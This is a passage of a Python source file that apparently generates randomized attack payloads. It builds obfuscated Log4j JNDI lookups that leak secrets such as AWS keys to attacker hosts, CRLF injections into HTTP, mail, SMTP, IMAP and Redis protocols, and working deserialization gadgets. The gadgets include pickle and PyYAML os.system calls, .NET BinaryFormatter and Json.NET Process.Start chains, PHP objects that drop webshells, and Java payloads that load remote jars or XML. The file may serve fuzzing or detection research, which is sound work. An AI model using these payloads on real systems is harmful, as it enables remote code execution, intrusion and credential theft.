        return _pick(r, (1, f"ftp://{host}{port}/"), (1, f"sftp://{_host(r)}:{_port(r)}/"), (1, f"tftp://{_host(r)}:69/{x}"),
                     (1, f"ldap://{host}:389/%0astats%0aquit"), (1, f"jar:http://{_host(r)}/{x}.jar!/"), (0.7, f"netdoc:///etc/passwd"),
                     (0.7, f"smb://{_host(r)}/{x}"), (0.5, f"telnet://{host}:23/"), (0.5, f"ws://{host}{port}/"),
                     (0.5, f"ssh://{host}:22/"), (0.5, f"svn+ssh://{_host(r)}/{x}"))
    return _pick(r, (2, f"{host}{port or ':' + str(r.choice([6379, 22, 8080, 9200]))}"), (1, host), (1, f"{host}{port}{path}"))


# JNDI: Log4j 2 lookups (${prefix:key}, ${key:-default}, nested lookups resolved inside
# variable names, the prefix lower-cased) that end in a jndi: lookup


def _l4j_char(r, ch, upper_ok=False):
    """A Log4j lookup that evaluates to `ch` (case-insensitive places may take upper case)."""
    env = r.choice(["NaN", "BARFOO", "X", _ident(r, 1, 2).upper(), "HOME_X", "ZZ"])
    opts = [(4, f"${{::-{ch}}}"), (2, f"${{env:{env}:-{ch}}}"), (1, f"${{sys:{_ident(r, 1, 1)}.{_ident(r, 1, 1)}:-{ch}}}"),
            (1, lambda: "${" + ":" * r.randint(2, 6) + "-" + ch + "}"),
            (1, lambda: f"${{{r.choice(['k8s', 'spring', 'docker', 'web', 'main', 'bundle:x'])}:{_ident(r, 1, 1)}:-{ch}}}"),
            (0.5, f"${{lower:${{::-{ch}}}}}")]
    if ch.isalpha():
        opts += [(3, f"${{lower:{ch.upper() if r.random() < 0.5 else ch}}}"), (1, f"${{date:'{ch}'}}")]
        if upper_ok:
            opts += [(2, f"${{upper:{ch}}}"), (0.5, f"${{upper:{chr(0x131)}}}" if ch == "i" else f"${{upper:{ch}}}")]
    return _pick(r, *opts)


def _l4j_obf(r, s, p, upper_ok=False):
    return "".join(_l4j_char(r, ch, upper_ok) if r.random() < p else ch for ch in s)


def jndi(r):
    proto = _pick(r, (6, "ldap"), (2, "rmi"), (2, "dns"), (1, "ldaps"), (0.7, "iiop"), (0.3, "iiopname"), (0.3, "corbaname"))
    host = _host(r)
    port = {"ldap": ["", ":1389", ":389", ":1389"], "ldaps": ["", ":636"], "rmi": ["", ":1099"], "dns": ["", ":53"]}.get(proto, [""])
    port = r.choice(port + [f":{_port(r)}"])
    leak = _pick(r, (4, lambda: r.choice(["a", "x", "Exploit", "o", _ident(r), _ident(r), f"{_ident(r)}/{_ident(r)}"])),
                 (1, "${env:AWS_SECRET_ACCESS_KEY}"), (1, "${env:USER}"), (1, "${sys:java.version}"), (1, "${hostName}"),
                 (0.7, "${java:version}"), (0.7, "${sys:user.name}"), (0.5, "${ctx:loginId}"), (0.5, "${env:HOSTNAME}"),
                 (0.5, "${java:os}"), (0.4, "${env:DB_PASSWORD}"), (0.4, "${main:0}"), (0.3, "${docker:containerId}"))
    dom = _dom(r)
    hostpart = _pick(r, (6, f"{host}{port}"), (1, f"{leak}.{dom}{port}" if leak.startswith("$") else f"${{env:USER}}.{dom}{port}"),
                     (1, f"127.0.0.1#{dom}{port}"), (0.5, f"{_ident(r)}.{dom}{port}"))
    path = "/" + (leak if not hostpart.startswith("$") else _ident(r))
    strength = _pick(r, (3, 0.0), (2, 0.3), (2, 0.6), (1, 1.0))
    keyword = _pick(r, (5, lambda: _l4j_obf(r, "jndi", strength, True)), (1, "JNDI"), (1, lambda: _mixcase(r, "jndi")),
                    (0.7, lambda: f"${{lower:{_mixcase(r, 'jndi')}}}"), (0.5, lambda: f"${{lower:${{lower:jndi}}}}"),
                    (0.4, lambda: f"j${{{r.choice(['k8s', 'main', 'spring'])}:{_ident(r, 1, 1)}:-nd}}i"),
                    (0.4, lambda: f"jnd${{upper:{chr(0x131)}}}"))
    sep = ":" if r.random() < 0.8 else _l4j_char(r, ":")
    p = _l4j_obf(r, proto, strength * 0.7) if r.random() < 0.6 else proto
    slashes = "//" if r.random() < 0.85 else _l4j_char(r, "/") + _l4j_char(r, "/")
    lookup = f"${{{keyword}{sep}{p}:{slashes}{hostpart}{path}}}"
    if r.random() < 0.04:
        lookup = "${${::-${::-$${::-j}}}}"
    context = _pick(r, (5, ""), (1, lambda: f"{_word(r)}"), (1, "Mozilla/5.0 "), (0.7, lambda: f"{_ident(r)} "),
                    (0.5, lambda: f"{_word(r)}@example.org"), (0.5, "Bearer "), (0.5, "() { :; }; "))
    end = _pick(r, (6, ""), (1, lambda: f" {_ident(r)}"), (0.5, "/"), (0.5, lambda: f"{_n(r)}"))
    return context + lookup + end


# CRLF: line breaks into an HTTP response header (response splitting), an outbound
# HTTP request, mail headers (mail()), SMTP/IMAP/POP3 commands, Redis and memcached
# text protocols, and log lines

def crlf(r):
    nl = _pick(r, (8, "\r\n"), (4, "\n"), (0.7, "\r"), (0.7, "%0d%0a"), (0.5, "%0a"), (0.4, "%0D%0A"),
               (0.3, "\u560d\u560a"), (0.2, "%E5%98%8D%E5%98%8A"))
    host, x, w = _host(r), _ident(r), _word(r)
    email = f"{_word(r)}@{r.choice(['example.org', 'example.com', 'mail.example.net'])}"
    victims = ",".join(f"{_ident(r)}@{r.choice(['example.net', 'example.com', 'corp.example'])}" for _ in range(r.randint(1, 4)))
    ctx = _pick(r, (5, "response"), (1.2, "request"), (3, "mailhdr"), (1.5, "smtp"), (1.5, "imap"), (0.6, "pop3"),
                (0.8, "kv"), (0.6, "log"), (0.4, "ftp"))
    if ctx == "response":
        v = _pick(r, (3, lambda: _word(r)), (2, "/"), (1, lambda: f"/{_ident(r)}"), (1, "en"), (1, lambda: f"https://{r.choice(['example.com', 'shop.example'])}/"),
                  (1, ""), (0.5, lambda: n_of(r)))
        hdr = lambda: _pick(r, (1, "Set-Cookie"), (0.2, "set-cookie"), (0.1, "SET-COOKIE"))  # noqa: E731
        js = _js_call(r)
        html = r.choice([f"<script>{js}</script>", f"<svg onload={_js_call(r, ' >')}>", f"<html><body><img src=x onerror={_js_call(r, ' >')}></body></html>"])
        return v + _pick(
            r, (4, lambda: f"{nl}{hdr()}: {r.choice(['session', 'sessionid', 'PHPSESSID', 'JSESSIONID', 'admin', 'role'])}={r.choice([x, n_of(r), 'admin', '1'])}"
                           + r.choice(["", "; Path=/", f"; Domain=.{r.choice(['example.com', 'shop.example'])}", "; HttpOnly", "; Max-Age=31536000"])),
            (2.5, lambda: f"{nl}Location: {r.choice(['http://', 'https://', '//'])}{host}/{_ident(r)}"),
            (2, f"{nl}{nl}{html}"), (1.5, f"{nl}Content-Type: text/html{nl}{nl}{html}"),
            (1, f"{nl}Content-Length: 0{nl}{nl}HTTP/1.1 200 OK{nl}Content-Type: text/html{nl}Content-Length: {len(html)}{nl}{nl}{html}"),
            (1, f"{nl}Access-Control-Allow-Origin: https://{host}{nl}Access-Control-Allow-Credentials: true"),
            (0.7, f"{nl}Refresh: 0; url=https://{host}/"), (0.7, f"{nl}Link: <//{host}/{x}.css>; rel=stylesheet"),
            (0.7, f"{nl}Content-Disposition: attachment; filename={x}.{r.choice(['bat', 'cmd', 'hta', 'exe'])}"),
            (0.5, f"{nl}X-XSS-Protection: 0"), (0.5, f"{nl}Content-Security-Policy: script-src * 'unsafe-inline'"),
            (0.5, f"{nl}Cache-Control: public, max-age=31536000{nl}X-Cache-Key: {x}"), (0.5, f"{nl}X-{_ident(r).title()}: {n_of(r)}"))
    if ctx == "request":
        return _pick(r, (2, f"/{x} HTTP/1.1{nl}Host: {r.choice(['127.0.0.1', 'localhost', 'internal-api'])}{nl}{nl}GET /admin"),
                     (1.5, f"{w}{nl}X-Forwarded-For: 127.0.0.1"), (1, f"{w}{nl}Authorization: Basic {_b64(_word(r) + ':' + _ident(r))}"),
                     (1, f"{w}{nl}Host: {host}"), (1, f"{w}{nl}Transfer-Encoding: chunked{nl}{nl}0{nl}{nl}GET /admin HTTP/1.1{nl}X: "),
                     (0.7, f"{w}{nl}Content-Length: 0{nl}{nl}POST /api/users HTTP/1.1{nl}Host: localhost"))
    if ctx == "mailhdr":
        name = lambda h: _pick(r, (6, h), (1, h.lower()), (0.5, h.upper()))  # noqa: E731
        return _pick(
            r, (4, f"{email}{nl}{name('Bcc')}: {victims}"), (2, f"{email}{nl}{name('Cc')}: {victims}"), (1.5, f"{email}{nl}{name('To')}: {victims}"),
            (1, f"{email}{nl}{name('Subject')}: {_ident(r)}{nl}{name('Bcc')}: {victims}"), (1, f"{email}{nl}{name('Reply-To')}: {_word(r)}@{host}"),
            (1, f"{email}{nl}Content-Type: text/html{nl}{nl}<a href=https://{host}/>{_ident(r)}</a>"),
            (1, f"{email}{nl}MIME-Version: 1.0{nl}Content-Type: multipart/mixed; boundary={x}{nl}{nl}--{x}{nl}Content-Type: text/plain{nl}{nl}{_ident(r)}{nl}--{x}--"),
            (1, f"\"{_word(r)}{nl}Bcc: {victims}\" <{email}>"), (1, f"{_ident(r)}{nl}{name('Bcc')}: {victims}"),
            (0.7, f"{email}%0ABcc:{victims}"))
    if ctx == "smtp":
        return _pick(r, (2, f"{email}>{nl}RCPT TO:<{victims.split(',')[0]}>{nl}DATA{nl}Subject: {x}{nl}{nl}{_ident(r)}{nl}.{nl}QUIT"),
                     (1.5, f"{email}{nl}RCPT TO:<{victims.split(',')[0]}>"), (1, f"{email}{nl}MAIL FROM:<{_word(r)}@{host}>"),
                     (1, f"{email}>{nl}RSET{nl}MAIL FROM:<admin@{r.choice(['example.com', 'example.org'])}>"),
                     (1, f"{w}{nl}VRFY {r.choice(['root', 'admin', 'postmaster'])}"), (0.7, f"{w}{nl}EXPN {r.choice(['staff', 'all', 'admins'])}"),
                     (0.7, f"{w}{nl}HELO {host}"))
    if ctx == "imap":
        tag = r.choice([f"A{r.randint(1, 999)}", f"a{r.randint(1, 99):03d}", _ident(r, 1, 1).upper() + str(r.randint(1, 99)), "V100", "X1"])
        mbox = r.choice(["INBOX", "Sent", "Drafts", "Archive", f"INBOX.{_ident(r)}", '"INBOX"'])
        c = _pick(r, (2, "CAPABILITY"), (2, 'LIST "" "*"'), (2, lambda: f"FETCH 1:* (BODY[{r.choice(['', 'HEADER', 'TEXT'])}])"),
                  (1, lambda: f"FETCH {n_of(r)} BODY[]"), (1, "STORE 1:* +FLAGS (\\Deleted)"), (1, "EXPUNGE"), (1, "DELETE INBOX"),
                  (1, lambda: f"COPY 1:* {_ident(r)}"), (1, lambda: f"LOGIN {_word(r)} {_ident(r)}"), (0.5, "LOGOUT"), (0.5, "SELECT INBOX"))
        more = f"{nl}{tag[:-1]}{int(tag[-1]) + 1 if tag[-1].isdigit() else 2} {_pick(r, (1, 'LOGOUT'), (1, 'EXPUNGE'), (1, 'CAPABILITY'))}" if r.random() < 0.3 else ""
        quote = '"' if r.random() < 0.2 else ""
        return f"{mbox}{quote}{nl}{tag} {c}{more}"
    if ctx == "pop3":
        return f"{w}{nl}" + _pick(r, (1, lambda: f"RETR {r.randint(1, 99)}"), (1, lambda: f"DELE {r.randint(1, 99)}"), (1, "LIST"), (0.5, "STAT"),
                                  (0.5, lambda: f"USER {_word(r)}{nl}PASS {_ident(r)}"))
    if ctx == "kv":
        v = _ident(r)
        return _pick(r, (2, f"{x}{nl}set {_ident(r)} 0 0 {len(v)}{nl}{v}"), (1, f"{x}{nl}flush_all"), (1, f"{x}{nl}FLUSHALL"),
                     (1, f"{x}{nl}CONFIG SET dir /var/www/html{nl}CONFIG SET dbfilename {v}.php"), (1, f"{x}{nl}SLAVEOF {host} {_port(r)}"),
                     (0.7, f"{x}{nl}delete {_ident(r)}"))
    if ctx == "log":
        ts = f"2024-{r.randint(1, 12):02d}-{r.randint(1, 28):02d} {r.randint(0, 23):02d}:{r.randint(0, 59):02d}:{r.randint(0, 59):02d}"
        return _pick(r, (2, f"{w}{nl}{ts} INFO User {r.choice(['admin', 'root'])} logged in successfully"),
                     (1, f"{w}{nl}127.0.0.1 - admin [{ts}] \"GET /admin HTTP/1.1\" 200 {r.randint(100, 9999)}"),
                     (1, f"{w}{nl}{ts} [INFO] Password changed for user={r.choice(['admin', 'root'])}"))
    return f"{x}.txt{nl}" + _pick(r, (1, f"DELE {_ident(r)}.txt"), (1, f"STOR {_ident(r)}.php"), (1, "SITE CHMOD 777 ."), (0.5, f"PORT {','.join(str(r.randint(1, 254)) for _ in range(4))},{r.randint(1, 200)},{r.randint(0, 255)}"))


# Insecure deserialization: Java Object Serialization streams, Java JSON/XML/YAML
# binders, .NET BinaryFormatter/ObjectStateFormatter (ViewState), Json.NET $type and
# JavaScriptSerializer __type, PHP serialize(), Python pickle and PyYAML, node-serialize


class _JavaStream:
    """A Java Object Serialization Stream (java.io.ObjectOutputStream's grammar:
    STREAM_MAGIC, STREAM_VERSION, TC_* records, handles from 0x7e0000)."""

    def __init__(self):
        self.b = bytearray(b"\xac\xed\x00\x05")
        self.next = 0x7E0000
        self.strings = {}

    def handle(self):
        self.next += 1
        return self.next - 1

    def utf(self, s):
        e = s.encode()
        self.b += struct.pack(">H", len(e)) + e

    def string(self, s):
        if s in self.strings:
            self.b += b"\x71" + struct.pack(">I", self.strings[s])  # TC_REFERENCE
        else:
            self.b += b"\x74"  # TC_STRING
            self.utf(s)
            self.strings[s] = self.handle()

    def classdesc(self, name, suid, flags, fields):
        """TC_CLASSDESC: primitive fields first, then object fields, each group by name."""
        self.b += b"\x72"
        self.utf(name)
        self.b += struct.pack(">q", suid)
        self.handle()
        self.b += bytes([flags]) + struct.pack(">H", len(fields))
        for code, fname, cls in fields:
            self.b += code.encode()
            self.utf(fname)
            if cls:
                self.string(cls)
        self.b += b"\x78\x70"  # TC_ENDBLOCKDATA (no annotations), TC_NULL (no superclass)

    def url(self, host, file, proto):
        """A java.net.URL whose cached hashCode is -1: hashing it (as a map key) resolves the host."""
        self.b += b"\x73"
        s = "Ljava/lang/String;"
        self.classdesc("java.net.URL", -7627629688361524110, 0x03,
                       [("I", "hashCode", None), ("I", "port", None), ("L", "authority", s), ("L", "file", s),
                        ("L", "host", s), ("L", "protocol", s), ("L", "ref", s)])
        self.handle()
        self.b += struct.pack(">ii", -1, -1)
        self.string(host)
        self.string(file)
        self.string(host)
        self.string(proto)
        self.b += b"\x70\x78"  # ref = null; end of URL.writeObject's data


def _java_urldns(r, host):
    """HashMap/Hashtable/HashSet holding a java.net.URL: deserializing it makes a DNS lookup (the
    canonical probe for a deserialization sink, no library gadget needed)."""
    js = _JavaStream()
    proto, file = r.choice(["http", "https", "ftp"]), r.choice(["", "/", f"/{_ident(r)}"])
    kind = _pick(r, (3, "HashMap"), (1, "Hashtable"), (1.5, "HashSet"))
    js.b += b"\x73"
    if kind == "HashSet":
        js.classdesc("java.util.HashSet", -5024744406713321676, 0x03, [])
        js.handle()
        js.b += b"\x77\x0c" + struct.pack(">ifi", 16, 0.75, 1)  # capacity, load factor, size
        js.url(host, file, proto)
        js.b += b"\x78"
        return bytes(js.b)
    if kind == "HashMap":
        js.classdesc("java.util.HashMap", 362498820763181265, 0x03, [("F", "loadFactor", None), ("I", "threshold", None)])
        js.handle()
        js.b += struct.pack(">fi", 0.75, 12) + b"\x77\x08" + struct.pack(">ii", 16, 1)
    else:
        js.classdesc("java.util.Hashtable", 1421746759512286392, 0x03, [("F", "loadFactor", None), ("I", "threshold", None)])
        js.handle()
        js.b += struct.pack(">fi", 0.75, 8) + b"\x77\x08" + struct.pack(">ii", 11, 1)
    js.url(host, file, proto)
    js.string(f"{proto}://{host}{file}")
    js.b += b"\x78"
    return bytes(js.b)


def _lps(s):
    """MS-NRBF LengthPrefixedString: UTF-8 with a 7-bit encoded length."""
    e = s.encode()
    n, out = len(e), bytearray()
    while True:
        if n < 0x80:
            out.append(n)
            break
        out.append((n & 0x7F) | 0x80)
        n >>= 7
    return bytes(out) + e


def _xaml_process(r, cmd):
    """XAML that starts a process when parsed (ObjectDataProvider calling Process.Start)."""
    k = _ident(r, 1, 1)
    esc = cmd.replace("&", "&amp;").replace("<", "&lt;").replace('"', "&quot;")
    return ('<ResourceDictionary xmlns="http://schemas.microsoft.com/winfx/2006/xaml/presentation" '
            'xmlns:x="http://schemas.microsoft.com/winfx/2006/xaml" xmlns:s="clr-namespace:System;assembly=mscorlib" '
            'xmlns:d="clr-namespace:System.Diagnostics;assembly=system">'
            f'<ObjectDataProvider x:Key="{k}" ObjectType="{{x:Type d:Process}}" MethodName="Start">'
            f'<ObjectDataProvider.MethodParameters><s:String>cmd</s:String><s:String>/c {esc}</s:String>'
            '</ObjectDataProvider.MethodParameters></ObjectDataProvider></ResourceDictionary>')


def _dotnet_binaryformatter(r, cmd):
    """A BinaryFormatter stream (MS-NRBF) of TextFormattingRunProperties, whose
    deserialization constructor parses the ForegroundBrush string as XAML."""
    b = bytearray(b"\x00" + struct.pack("<iiii", 1, -1, 1, 0))  # SerializationHeaderRecord
    b += b"\x0c" + struct.pack("<i", 2) + _lps("Microsoft.PowerShell.Editor, Version=3.0.0.0, Culture=neutral, PublicKeyToken=31bf3856ad364e35")
    b += b"\x05" + struct.pack("<i", 1) + _lps("Microsoft.VisualStudio.Text.Formatting.TextFormattingRunProperties")
    b += struct.pack("<i", 1) + _lps("ForegroundBrush") + b"\x01" + struct.pack("<i", 2)  # one String member, library 2
    b += b"\x06" + struct.pack("<i", 3) + _lps(_xaml_process(r, cmd))  # BinaryObjectString
    b += b"\x0b"  # MessageEnd
    return bytes(b)


def _php_ser(v):
    """PHP serialize() of a Python value; objects are (class, [(name, visibility, value)])."""
    if v is None:
        return "N;"
    if isinstance(v, bool):
        return f"b:{int(v)};"
    if isinstance(v, int):
        return f"i:{v};"
    if isinstance(v, float):
        return f"d:{v};"
    if isinstance(v, str):
        return f's:{len(v.encode())}:"{v}";'
    if isinstance(v, list):
        return f"a:{len(v)}:{{" + "".join(_php_ser(i) + _php_ser(x) for i, x in enumerate(v)) + "}"
    if isinstance(v, dict):
        return f"a:{len(v)}:{{" + "".join(_php_ser(k) + _php_ser(x) for k, x in v.items()) + "}"
    cls, props = v
    out = ""
    for name, vis, val in props:
        key = name if vis == "public" else f"\0*\0{name}" if vis == "protected" else f"\0{vis}\0{name}"
        out += _php_ser(key) + _php_ser(val)
    return f'O:{len(cls.encode())}:"{cls}":{len(props)}:{{{out}}}'


def _php_object(r, cmd, host):
    x = _ident(r)
    shell = r.choice(["<?php system($_GET['c']);?>", "<?php eval($_POST[1]);?>", "<?=`$_GET[0]`?>"])
    vis = lambda: r.choice(["public", "public", "protected"])  # noqa: E731
    gadget = _pick(
        r,
        (2, lambda: ("Illuminate\\Broadcasting\\PendingBroadcast",
                     [("events", "protected", ("Illuminate\\Bus\\Dispatcher", [("queueResolver", "protected", r.choice(["system", "passthru", "exec", "shell_exec"]))])),
                      ("event", "protected", ("Illuminate\\Broadcasting\\BroadcastEvent", [("connection", "public", cmd)]))])),
        (1.5, lambda: ("GuzzleHttp\\Cookie\\FileCookieJar",
                       [("cookies", "GuzzleHttp\\Cookie\\CookieJar",
                         [("GuzzleHttp\\Cookie\\SetCookie", [("data", "GuzzleHttp\\Cookie\\SetCookie",
                                                              {"Name": x, "Value": shell, "Domain": host, "Expires": True})])]),
                        ("strictMode", "GuzzleHttp\\Cookie\\CookieJar", False),
                        ("filename", "GuzzleHttp\\Cookie\\FileCookieJar", f"/var/www/html/{x}.php"),
                        ("storeSessionCookies", "GuzzleHttp\\Cookie\\FileCookieJar", True)])),
        (3, lambda: (lambda c, v1, v2: (c, [(v1[0], vis(), v1[1]), (v2[0], vis(), v2[1])]))(
            r.choice(["Logger", "FileLogger", "Cache", "CacheItem", "TempFile", "Writer", "AuditLog"]),
            (r.choice(["logFile", "file", "path", "cacheFile", "filename"]), f"/var/www/html/{r.choice(['', 'uploads/', 'images/'])}{x}.php"),
            (r.choice(["logData", "data", "content", "buffer"]), shell))),
        (2, lambda: (r.choice(["Example", "Command", "Task", "Job", "Hook", "Shell"]),
                     [(r.choice(["cmd", "command", "callback", "exec"]), vis(), cmd)]
                     + ([("func", vis(), r.choice(["system", "passthru", "exec"]))] if r.random() < 0.5 else []))),
        (1.5, lambda: (r.choice(["Template", "View", "Page", "Include"]), [(r.choice(["template", "file", "view", "path"]), vis(), r.choice(["../../../../etc/passwd", "/etc/passwd", "php://filter/convert.base64-encode/resource=config.php"]))])),
        (1, lambda: (r.choice(["TempFile", "Upload", "Attachment"]), [(r.choice(["filename", "path", "tmp"]), vis(), r.choice(["/var/www/html/.htaccess", "../config.php", "/var/www/html/index.php"]))])),
        (1.5, lambda: (r.choice(["User", "Session", "Account", "Profile"]), [("username", "public", r.choice(["admin", "root", "administrator"])),
                                                                             (r.choice(["isAdmin", "admin", "role", "is_admin"]), vis(), r.choice([True, 1, "admin"]))])),
        (1, lambda: ("SoapClient", [("uri", "public", f"http://{host}/"), ("location", "public", f"http://{host}/{x}"),
                                    ("_user_agent", "public", f"{x}\r\nX-Injected: 1")])),
    )
    s = _php_ser(gadget)
    return _pick(r, (6, s), (1, s.replace("O:", "O:+", 1)), (0.5, lambda: f"a:1:{{i:0;{s}}}"))


def _pickle(r, cmd):
    """A pickle whose loading calls a function with the attacker's argument (GLOBAL/STACK_GLOBAL + REDUCE)."""
    mod, name, arg = _pick(r, (3, ("os", "system", cmd)), (2, ("posix", "system", cmd)), (1, ("nt", "system", cmd)),
                           (1, ("subprocess", "getoutput", cmd)), (1, ("os", "popen", cmd)),
                           (1.5, ("builtins", "eval", f"__import__('os').system('{cmd}')")),
                           (1, ("builtins", "exec", f"import os;os.system('{cmd}')")),
                           (0.7, ("__builtin__", "eval", f"__import__('os').system('{cmd}')")),
                           (0.5, ("commands", "getoutput", cmd)))
    proto = _pick(r, (2, 0), (1, 1), (2, 2), (1, 3), (2, 4))
    a = arg.encode()
    if proto == 0:
        s = _pick(r, (1, f"c{mod}\n{name}\n(S'{arg}'\ntR."), (1, f"c{mod}\n{name}\n(V{arg}\ntR."),
                  (0.5, f"c{mod}\n{name}\np0\n(S'{arg}'\np1\ntp2\nRp3\n."))
        return s.encode()
    if proto == 1:
        return f"c{mod}\n{name}\nq\x00(".encode() + b"X" + struct.pack("<I", len(a)) + a + b"q\x01tq\x02Rq\x03."
    if proto in (2, 3):
        return bytes([0x80, proto]) + f"c{mod}\n{name}\nq\x00".encode() + b"X" + struct.pack("<I", len(a)) + a + b"q\x01\x85q\x02Rq\x03."
    body = (b"\x8c" + bytes([len(mod)]) + mod.encode() + b"\x94\x8c" + bytes([len(name)]) + name.encode() + b"\x94\x93\x94"
            + (b"\x8c" + bytes([len(a)]) + a if len(a) < 256 else b"X" + struct.pack("<I", len(a)) + a) + b"\x94\x85\x94R\x94.")
    return b"\x80\x04\x95" + struct.pack("<Q", len(body)) + body


def serialized(r):
    host, x = _host(r), _ident(r)
    c = _unix_cmd(r)
    fam = _pick(r, (4, "java"), (2, "java-json"), (1, "java-xml"), (2.5, "dotnet"), (3, "php"), (2.5, "pickle"), (1.5, "yaml"),
                (0.7, "node"))
    if fam == "java":
        base = host if not host[0].isdigit() else r.choice(_ATTACKER_DOMAINS)
        h = _pick(r, (2, f"{_ident(r)}.{base}"), (1, base))
        data = _java_urldns(r, h)
        return _pick(r, (5, lambda: base64.b64encode(data).decode()), (1.5, data.hex()), (0.5, data.hex().upper()),
                     (1.5, lambda: base64.b64encode(gzip.compress(data, mtime=0)).decode()),
                     (1, lambda: base64.urlsafe_b64encode(data).decode().rstrip("=")))
    if fam == "java-json":
        ldap = f"{r.choice(['ldap', 'rmi', 'ldap'])}://{host}{r.choice(['', ':1389', ':1099'])}/{x}"
        return _pick(
            r, (2, json.dumps({"@type": "com.sun.rowset.JdbcRowSetImpl", "dataSourceName": ldap, "autoCommit": True}, separators=(",", ":"))),
            (1, json.dumps({"a": {"@type": "java.lang.Class", "val": "com.sun.rowset.JdbcRowSetImpl"},
                            "b": {"@type": "com.sun.rowset.JdbcRowSetImpl", "dataSourceName": ldap, "autoCommit": True}})),
            (1, json.dumps({"@type": "Lcom.sun.rowset.JdbcRowSetImpl;", "dataSourceName": ldap, "autoCommit": True})),
            (1.5, json.dumps(["com.sun.rowset.JdbcRowSetImpl", {"dataSourceName": ldap, "autoCommit": True}])),
            (1, json.dumps(["ch.qos.logback.core.db.DriverManagerConnectionSource",
                            {"url": f"jdbc:h2:mem:;TRACE_LEVEL_SYSTEM_OUT=3;INIT=RUNSCRIPT FROM 'http://{host}/{x}.sql'"}])),
            (1, json.dumps(["org.springframework.context.support.ClassPathXmlApplicationContext", f"http://{host}/{x}.xml"])),
            (0.7, json.dumps({"@class": "org.springframework.context.support.FileSystemXmlApplicationContext", "configLocation": f"http://{host}/{x}.xml"})),
            (0.7, json.dumps({"@type": "org.apache.xbean.propertyeditor.JndiConverter", "asText": ldap})))
    if fam == "java-xml":
        esc = c.replace("&", "&amp;").replace("<", "&lt;")
        parts = ["sh", "-c", esc]
        return _pick(
            r, (2, "<sorted-set><string>" + _ident(r) + "</string><dynamic-proxy><interface>java.lang.Comparable</interface>"
                   "<handler class=\"java.beans.EventHandler\"><target class=\"java.lang.ProcessBuilder\"><command>"
                   + "".join(f"<string>{p}</string>" for p in parts) + "</command></target><action>start</action></handler></dynamic-proxy></sorted-set>"),
            (2, "<java version=\"1.8.0\" class=\"java.beans.XMLDecoder\"><object class=\"java.lang.ProcessBuilder\">"
                f"<array class=\"java.lang.String\" length=\"{len(parts)}\">"
                + "".join(f"<void index=\"{i}\"><string>{p}</string></void>" for i, p in enumerate(parts))
                + "</array><void method=\"start\"/></object></java>"),
            (1, "<java><object class=\"java.lang.Runtime\" method=\"getRuntime\"><void method=\"exec\"><string>" + esc + "</string></void></object></java>"))
    if fam == "dotnet":
        w = _win_cmd(r)
        asm = "PresentationFramework, Version=4.0.0.0, Culture=neutral, PublicKeyToken=31bf3856ad364e35"
        sysasm = "System, Version=4.0.0.0, Culture=neutral, PublicKeyToken=b77a5c561934e089"
        mscor = "mscorlib, Version=4.0.0.0, Culture=neutral, PublicKeyToken=b77a5c561934e089"
        bf = lambda: _dotnet_binaryformatter(r, w)  # noqa: E731
        return _pick(
            r, (2, lambda: base64.b64encode(bf()).decode()),
            (1.5, lambda: (lambda d: base64.b64encode(b"\xff\x01\x32" + _lps_bytes(d) + (bytes(r.randrange(256) for _ in range(20)) if r.random() < 0.5 else b"")).decode())(bf())),
            (2, lambda: json.dumps({"$type": f"System.Windows.Data.ObjectDataProvider, {asm}", "MethodName": "Start",
                                    "MethodParameters": {"$type": f"System.Collections.ArrayList, {mscor}", "$values": ["cmd", f"/c {w}"]},
                                    "ObjectInstance": {"$type": f"System.Diagnostics.Process, {sysasm}"}})),
            (1, lambda: json.dumps({"$type": "System.Configuration.Install.AssemblyInstaller, System.Configuration.Install, Version=4.0.0.0, Culture=neutral, PublicKeyToken=b03f5f7f11d50a3a",
                                    "Path": f"file:///\\\\{host}\\{x}\\{x}.dll"})),
            (1, lambda: json.dumps({"$type": f"System.Security.Principal.WindowsIdentity, {mscor}",
                                    "System.Security.ClaimsIdentity.actor": base64.b64encode(bf()).decode()})),
            (1.5, lambda: json.dumps({"__type": f"System.Windows.Data.ObjectDataProvider, {asm}", "MethodName": "Start",
                                      "ObjectInstance": {"__type": f"System.Diagnostics.Process, {sysasm}",
                                                         "StartInfo": {"__type": f"System.Diagnostics.ProcessStartInfo, {sysasm}",
                                                                       "FileName": "cmd", "Arguments": f"/c {w}"}}})),
            (1, lambda: _xaml_process(r, w)))
    if fam == "php":
        return _php_object(r, c, host)
    if fam == "pickle":
        p = _pickle(r, c)
        if p[:1] != b"\x80" and r.random() < 0.3:
            return p.decode()
        return _pick(r, (4, lambda: base64.b64encode(p).decode()), (1, lambda: base64.urlsafe_b64encode(p).decode()), (0.5, p.hex()))
    if fam == "yaml":
        q = c.replace('"', '\\"')
        return _pick(
            r, (2, f"!!python/object/apply:os.system [\"{q}\"]"), (1, f"!!python/object/apply:os.system\n- {q}" if ":" not in c and "#" not in c else f"!!python/object/apply:os.system [\"{q}\"]"),
            (1.5, f"!!python/object/apply:subprocess.check_output [[\"sh\", \"-c\", \"{q}\"]]"),
            (1, f"!!python/object/new:subprocess.Popen [[\"sh\", \"-c\", \"{q}\"]]"),
            (1, f"!!python/object/apply:builtins.eval [\"__import__('os').system('{q}')\"]"),
            (1, f"{_ident(r)}: !!python/object/apply:os.popen [\"{q}\"]"),
            (1.5, f"!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://{host}/{x}.jar\"]]]]"),
            (1, f"!!com.sun.rowset.JdbcRowSetImpl {{dataSourceName: \"ldap://{host}:1389/{x}\", autoCommit: true}}"),
            (1, f"!!org.springframework.context.support.ClassPathXmlApplicationContext [\"http://{host}/{x}.xml\"]"),
            (1, f"toString: !<tag:yaml.org,2002:js/function> \"function(){{return process.mainModule.require('child_process').execSync('{q}')}}\""))
    return json.dumps({r.choice(["rce", "user", "profile", "data", x]): f"_$$ND_FUNC$$_function(){{require('child_process').exec('{c}')}}()"})


def _lps_bytes(d):
    """ObjectStateFormatter's 7-bit encoded length before a BinaryFormatter blob."""
    n, out = len(d), bytearray()
    while True:
        if n < 0x80:
            out.append(n)
            break
        out.append((n & 0x7F) | 0x80)
        n >>= 7
    return bytes(out) + d


CLASSES = {
    "sql": sql, "xss": xss, "cmd": cmd, "traversal": traversal, "template": template, "nosql": nosql,
    "ldap": ldap, "xxe": xxe, "ssrf": ssrf, "jndi": jndi, "crlf": crlf, "serialized": serialized,
}

# --------------------------------------------------------------------------------
# Encodings


def enc_plain(p):
    return p


def enc_base64(p):
    return base64.b64encode(p.encode()).decode()


def enc_base64_flat(p):
    return base64.b64encode(p.encode()).decode().rstrip("=")


def enc_double_url(p):
    return urllib.parse.quote(p, safe="")


def enc_js_unicode(p):
